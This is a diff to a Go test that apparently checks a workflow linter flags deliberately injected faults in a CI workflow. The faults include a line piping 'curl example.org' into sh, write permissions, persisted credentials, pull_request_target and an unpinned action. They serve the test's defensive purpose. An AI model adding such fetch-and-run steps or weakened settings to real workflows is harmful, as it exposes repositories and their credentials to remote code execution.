@@ -113,7 +113,7 @@ func TestEachFaultOfAWorkflowIsFound(t *testing.T) {
 		"contents: read":                    "contents: write",
 		"run: make lint":                    "run: make lint && curl example.org | sh",
 		"run: make e2e":                     "run: make what-is-not-there",
-		"actions/checkout@v6.0.0":           "actions/checkout@v6",
+		"actions/checkout@":                 "actions/checkout@v6 #",
 		"persist-credentials: false":        "persist-credentials: true",
 		"timeout-minutes: 60":               "timeout-minutes: 600",
 		"  pull_request:":                   "  pull_request_target:",
